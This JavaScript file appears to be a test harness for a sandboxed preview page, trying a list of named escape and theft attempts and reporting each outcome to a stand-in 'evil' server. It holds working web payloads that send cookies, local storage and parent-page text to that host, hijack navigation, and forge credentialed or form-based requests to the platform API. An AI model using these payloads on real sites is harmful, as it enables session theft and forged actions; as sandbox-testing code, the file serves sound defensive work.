// What a preview's page tries. `tell` brings what it found to its own server; success is judged by what arrives there, and by what changed.
const tell = (text) => fetch(evil + "heard", { method: "POST", body: String(text) });
const frame = (url) =>
  new Promise((done) => {
    const made = document.createElement("iframe");
    made.onload = () => done(made);
    made.src = url;
    document.body.append(made);
  });
const tries = {
  "cookie": () => tell(document.cookie),
  "storage": () => tell(JSON.stringify({ ...localStorage })),
  "parent-storage": () => tell(JSON.stringify({ ...parent.localStorage })),
  "parent-page": () => tell(parent.document.body.innerText),
  "top-navigation": () => void (top === window || (top.location = evil + "taken")),
  "popup": () => new Promise((done) => void ((onclick = () => done(void window.open(evil + "popup"))), tell("armed"))),
  "opener": () => void (window.opener && (window.opener.location = evil + "taken")),
  "frame-platform": () => frame(studio + "/"),
  "frame-sibling": () => frame(sibling),
  "sibling-storage": async () => tell(JSON.stringify({ ...(await frame(sibling)).contentWindow.localStorage })),
  "platform-socket": () => {
    const socket = new WebSocket(studio.replace("http", "ws") + "/api/v2/ws");
    socket.onopen = () => tell("opened " + mark);
    socket.onerror = () => tell("refused");
  },
  "platform-read": async () => tell(await (await fetch(studio + "/api/v2/projects", { credentials: "include" })).text()),
  "platform-write": () => fetch(studio + "/api/v2/projects", { method: "POST", mode: "no-cors", credentials: "include", body: '{"prompt": "Track plants"}' }),
  "platform-form": async () => {
    const form = Object.assign(document.createElement("form"), { method: "POST", action: studio + "/api/v2/projects", enctype: "text/plain", target: "sink" });
    form.append(Object.assign(document.createElement("input"), { name: '{"prompt": "Track plants", "name": "', value: '"}' }));
    document.body.append(Object.assign(document.createElement("iframe"), { name: "sink" }), form);
    form.submit();
  },
  "service-worker": async () => {
    await navigator.serviceWorker.register("worker.js", { scope: "/" });
    await navigator.serviceWorker.ready;
  },
  "sibling-request": () => fetch(sibling + "used", { method: "POST", mode: "no-cors", credentials: "include" }),
  "tossed-cookie": () => {
    for (const domain of ["domain=localhost;", ""]) document.cookie = `tossed=${mark}; ${domain} path=/`;
  },
  "camera": () => tell(document.featurePolicy.allowsFeature("camera") ? "granted " + mark : "refused"),
  "rebound-host": () => tell("granted " + mark),
};
Promise.resolve()
  .then(() => tries[attack]())
  .catch((repelled) => tell("repelled: " + repelled))
  .then(() => tell("done " + attack));
